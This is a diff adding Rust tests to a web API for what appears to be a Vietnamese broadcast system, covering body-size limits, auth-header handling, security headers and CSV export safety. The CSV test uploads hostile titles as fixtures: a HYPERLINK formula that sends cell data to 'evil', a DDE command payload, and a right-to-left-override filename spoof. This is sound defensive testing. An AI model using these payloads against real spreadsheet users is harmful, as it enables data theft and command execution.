@@ -514,3 +514,133 @@ async fn the_operator_page_is_served_from_the_binary_with_nothing_from_outside()
     let page = page.as_str().unwrap();
     assert!(page.contains("lang=\"vi\"") && page.contains("Nhật ký phát sóng") && page.contains("width=device-width"));
 }
+
+/// A body of `total` bytes made as it is read, counting what the server pulled.
+fn counted_body(total: usize, pulled: Arc<std::sync::atomic::AtomicUsize>) -> Body {
+    const CHUNK: usize = 64 * 1024;
+    let chunks = (0..total.div_ceil(CHUNK)).map(move |_| {
+        pulled.fetch_add(CHUNK, std::sync::atomic::Ordering::Relaxed);
+        Ok::<_, std::io::Error>(axum::body::Bytes::from(vec![b'{'; CHUNK]))
+    });
+    Body::from_stream(stream_of(chunks))
+}
+
+fn stream_of<I: Iterator + Send + Unpin + 'static>(items: I) -> impl futures_core::Stream<Item = I::Item> + Send
+where
+    I::Item: Send,
+{
+    struct Iter<I>(I);
+    impl<I: Iterator + Unpin> futures_core::Stream for Iter<I> {
+        type Item = I::Item;
+        fn poll_next(
+            mut self: std::pin::Pin<&mut Self>,
+            _: &mut std::task::Context,
+        ) -> std::task::Poll<Option<I::Item>> {
+            std::task::Poll::Ready(self.0.next())
+        }
+    }
+    Iter(items)
+}
+
+#[tokio::test]
+async fn bodies_are_bounded_before_any_token_is_looked_at() {
+    let api = api("");
+    // A declared length over the route's bound: 413 at once, even with no token at all.
+    let request = Request::builder()
+        .method("POST")
+        .uri("/api/v1/queue")
+        .header("content-length", "1610612736")
+        .body(Body::empty())
+        .unwrap();
+    let response = router(api.state.clone()).oneshot(request).await.unwrap();
+    assert_eq!(response.status(), StatusCode::PAYLOAD_TOO_LARGE);
+    let request = Request::builder()
+        .method("POST")
+        .uri("/api/v1/clips")
+        .header("content-length", (1u64 << 30).to_string())
+        .header("authorization", format!("Bearer {}", api.district))
+        .body(Body::empty())
+        .unwrap();
+    assert_eq!(router(api.state.clone()).oneshot(request).await.unwrap().status(), StatusCode::PAYLOAD_TOO_LARGE);
+
+    // 1.5 GiB sent without a length with a read-only token: refused without reading it.
+    let pulled = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let body = counted_body(1536 << 20, pulled.clone());
+    let (status, _) = api.call("POST", "/api/v1/queue", Some(&api.district), body, Some("application/json")).await;
+    assert_eq!(status, StatusCode::FORBIDDEN);
+    assert!(pulled.load(std::sync::atomic::Ordering::Relaxed) <= 1 << 20, "the body was read before the role check");
+    // With an operator token: read only up to the bound, then 413.
+    let pulled = Arc::new(std::sync::atomic::AtomicUsize::new(0));
+    let body = counted_body(1536 << 20, pulled.clone());
+    let (status, answer) = api.call("POST", "/api/v1/queue", Some(&api.operator), body, Some("application/json")).await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{answer}");
+    assert_eq!(answer["error"]["code"], "too_large");
+    assert!(pulled.load(std::sync::atomic::Ordering::Relaxed) <= 1 << 20, "read past the bound");
+}
+
+#[tokio::test]
+async fn the_bearer_scheme_is_case_insensitive_and_answers_carry_security_headers() {
+    let api = api("");
+    for scheme in ["bearer", "BEARER", "Bearer"] {
+        let request = Request::builder()
+            .uri("/api/v1/station")
+            .header("authorization", format!("{scheme} {}", api.district))
+            .body(Body::empty())
+            .unwrap();
+        let response = router(api.state.clone()).oneshot(request).await.unwrap();
+        assert_eq!(response.status(), StatusCode::OK, "{scheme}");
+        let headers = response.headers();
+        assert_eq!(headers["x-content-type-options"], "nosniff");
+        assert_eq!(headers["cache-control"], "no-store");
+        assert_eq!(headers["x-frame-options"], "DENY");
+    }
+}
+
+#[tokio::test]
+async fn spreadsheet_formulas_in_titles_are_neutralised_in_csv_and_bidi_controls_refused() {
+    let api = api("");
+    let base = api.serve().await;
+    let titles = [
+        "=HYPERLINK(\"http://evil/?x=\"&A2,\"Bấm vào đây\")",
+        "=cmd|' /C calc'!A0",
+        "+Thông báo",
+        "-Thông báo",
+        "@SUM(1+1)",
+    ];
+    for (i, title) in titles.iter().enumerate() {
+        let fixture_name =
+            ["cbr128_stereo_44k.mp3", "vbr_stereo_44k.mp3", "mono_22k.mp3", "mpeg2_16k.mp3", "mpeg25_8k.mp3"][i];
+        let (status, answer) = upload(
+            &base,
+            &api.operator,
+            form(Some(("a.mp3", fixture(fixture_name))), &[("title", title), ("topic", "cchc")]),
+        )
+        .await;
+        assert_eq!(status, 201, "{title}: {answer}");
+    }
+    let (status, csv) = api.get("/api/v1/airtime?format=csv", Some(&api.district)).await;
+    assert_eq!(status, StatusCode::OK);
+    let csv = csv.as_str().unwrap();
+    let mut reader = csv::Reader::from_reader(csv.trim_start_matches('\u{feff}').as_bytes());
+    let column = reader.headers().unwrap().iter().position(|h| h == "title").unwrap();
+    let cells: Vec<String> =
+        reader.records().map(|r| r.unwrap()[column].to_owned()).filter(|c| !c.is_empty()).collect();
+    assert_eq!(cells.len(), 5, "{cells:?}");
+    for cell in &cells {
+        assert!(cell.starts_with('\''), "a formula reaches the spreadsheet: {cell}");
+    }
+    // A true number stays a number.
+    assert_eq!(loa::export::spreadsheet_safe("-1840"), "-1840");
+    assert_eq!(loa::export::spreadsheet_safe("Bản tin"), "Bản tin");
+    assert_eq!(loa::export::spreadsheet_safe("\tx"), "'\tx");
+    assert_eq!(loa::export::spreadsheet_safe("\r=1"), "'\r=1");
+
+    let (status, answer) = upload(
+        &base,
+        &api.operator,
+        form(Some(("b.mp3", fixture("silent.mp3"))), &[("title", "Thông báo \u{202E}3pm.exe"), ("topic", "cchc")]),
+    )
+    .await;
+    assert_eq!(status, 422, "{answer}");
+    assert!(answer["error"]["message"].as_str().unwrap().contains("U+202E"), "{answer}");
+}
